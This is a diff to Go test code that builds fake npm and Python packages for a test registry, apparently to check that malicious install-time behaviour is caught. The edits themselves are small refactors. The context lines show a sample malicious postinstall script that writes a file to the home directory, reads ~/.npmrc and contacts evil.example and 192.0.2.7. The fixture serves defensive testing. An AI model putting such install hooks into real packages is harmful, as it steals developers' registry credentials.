@@ -4,6 +4,7 @@ package pipeline
 
 import (
 	"fmt"
+	"maps"
 	"os"
 	"path/filepath"
 	"slices"
@@ -36,7 +37,7 @@ fs.writeFileSync(path.join(os.homedir(), "pwn"), "x");
 fs.readFileSync(path.join(os.homedir(), ".npmrc"));
 https.get("https://evil.example/").on("error", () => net.connect(443, "192.0.2.7").on("error", () => {}));
 `
-	// what an honest package may do when it is installed
+	// what an honest package may do when it is installed.
 	goodPython = `
 import os, platform, sys, tempfile
 with tempfile.TemporaryFile() as f: f.write(platform.machine().encode())
@@ -76,9 +77,7 @@ func wheelServer(t *testing.T, more files, needs ...string) []byte {
 	t.Helper()
 	content := pythonServer(t)
 	content["case_server-1.0.0.dist-info/entry_points.txt"] = pythonScripts
-	for name, text := range more {
-		content[name] = text
-	}
+	maps.Copy(content, more)
 	return wheel(t, "case_server", content, needs...)
 }
 
@@ -137,9 +136,7 @@ func (r *testRegistry) publishNode(t *testing.T, script string, more map[string]
 		"name": "case-server", "bin": map[string]any{"case-server": "server.js"},
 		"scripts": map[string]any{"postinstall": "node postinstall.js"},
 	}
-	for key, value := range more {
-		manifest[key] = value
-	}
+	maps.Copy(manifest, more)
 	r.publishNPM(t, manifest, files{"server.js": string(server), "postinstall.js": script})
 }
 
